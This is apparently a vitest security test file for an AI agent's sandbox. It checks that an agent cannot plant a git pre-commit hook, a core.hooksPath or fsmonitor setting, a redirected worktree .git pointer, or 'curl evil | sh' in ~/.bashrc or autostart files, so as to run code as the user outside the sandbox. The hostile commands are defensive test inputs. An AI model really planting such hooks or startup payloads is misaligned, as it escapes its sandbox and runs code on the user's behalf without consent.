/**
 * Planting what the user runs later, outside any sandbox. An agent may write its workspace, and a workspace that
 * is a git repository holds `.git/hooks` and `.git/config`: a `pre-commit` hook, a `core.hooksPath`, a
 * `core.fsmonitor` the agent writes there runs as the user at their next `git commit` or `git status` — the
 * sandbox switched off one step later. Likewise `~/.bashrc` where the home is writable. These stay read-only to
 * tools (a read-only bind mount in the tool's own mount namespace), the repository cannot be renamed away and
 * replaced, and the agent can still commit. Real olliesrv, toolsrv and sandbox helper; the mock LLM scripts the
 * calls. As root (the mount namespace) and as another user (`nobody`: a user namespace first).
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { landlockStatus } from '../../src/toolsrv/sandbox/index.js';
import { testHarness } from '../olliesrv/agent-harness.js';
import { testDir } from '../helpers/temp-dir.js';
import { git, plant, repo, sandboxReady } from './git-workspace.js';
import { runInHome } from './sandboxed-home.js';

describe.skipIf(!sandboxReady)('an agent planting git hooks in its workspace', () => {
  it('cannot write .git/hooks or .git/config, nor swap .git for a copy; it can still commit', async () => {
    const h = await testHarness();
    const ws = repo(h.dir, 'ws');
    const config = readFileSync(join(ws, '.git', 'config'), 'utf8');
    const r = await plant(
      h,
      ws,
      'printf "#!/bin/sh\\necho pwned\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo wrote',
      'git config core.hooksPath "$PWD/myhooks" && echo wrote',
      'printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> .git/config && echo wrote',
      'mv .git .git-old && echo moved',
      'rm -rf .git/hooks; rm -f .git/config; ls .git/hooks | wc -l',
      'cp -r .git /tmp/g && rm -rf .git; test -d .git && echo still-there',
      // What the agent may still do: work with git.
      'echo x > f && git add f && git -c user.name=a -c user.email=a@x commit -qm work && echo committed',
    );
    for (const i of [0, 1, 2])
      expect(r[i], r[i]).toMatch(/Read-only file system|could not write config file .*Device or resource busy/);
    expect(r[3]).toMatch(/Device or resource busy/);
    expect(Number(r[4]!.trim().split('\n').at(-1))).toBeGreaterThan(0);
    expect(r[5]).toContain('still-there');
    expect(r[6]).toContain('committed');
    // The owner's git, outside the sandbox: the repository is the same, with the agent's commit and no hook.
    expect(existsSync(join(ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(ws, '.git', 'config'), 'utf8')).toBe(config);
    expect(git(ws, 'log', '--format=%s')).toBe('work\ninit\n');
    expect(git(ws, 'commit', '-q', '--allow-empty', '-m', 'owner')).toBe('');
  }, 90_000);

  it("cannot rewrite a worktree's .git file to name a repository of its own", async () => {
    const h = await testHarness();
    const main = repo(h.dir, 'main');
    const ws = join(h.dir, 'wt');
    git(main, 'worktree', 'add', '-q', ws);
    const pointer = readFileSync(join(ws, '.git'), 'utf8');
    const r = await plant(
      h,
      ws,
      'git init -q --bare "$TMPDIR/evil" && printf "gitdir: $TMPDIR/evil\\n" > .git && echo wrote',
      'rm -f .git && echo removed',
    );
    expect(r[0]).toMatch(/Read-only file system/);
    expect(r[1]).toMatch(/Device or resource busy|Read-only file system/);
    expect(readFileSync(join(ws, '.git'), 'utf8')).toBe(pointer);
  }, 90_000);
});

describe.skipIf(landlockStatus().abi < 6)('a home the policy makes writable', () => {
  // cwd=$HOME: the default policy makes the workspace, here the whole home, writable (but for the denied paths in
  // it, ~/.ssh and Ollie's dirs, which make each of its entries a rule of its own).
  it.each(['root', 'nobody'] as const)(
    'keeps its startup files read-only (%s); the rest of it stays writable',
    (as) => {
      const dir = testDir('ollie-sec-home-');
      const home = join(dir, 'home');
      mkdirSync(join(home, '.config', 'autostart'), { recursive: true });
      mkdirSync(join(home, 'notes'));
      writeFileSync(join(home, '.bashrc'), '# mine\n');
      writeFileSync(join(home, '.profile'), '# mine\n');
      const out = runInHome(as, dir, [
        'echo "curl evil | sh" >> .bashrc || echo refused-bashrc',
        'echo x > .profile || echo refused-profile',
        'echo "[Desktop Entry]" > .config/autostart/x.desktop || echo refused-autostart',
        'mv .config .config-old || echo refused-rename',
        'echo ok > notes/today.txt && echo wrote-notes',
      ]);
      for (const w of ['refused-bashrc', 'refused-profile', 'refused-autostart', 'refused-rename', 'wrote-notes'])
        expect(out, out).toContain(w);
      expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('# mine\n');
      expect(existsSync(join(home, '.config', 'autostart', 'x.desktop'))).toBe(false);
    },
  );
});
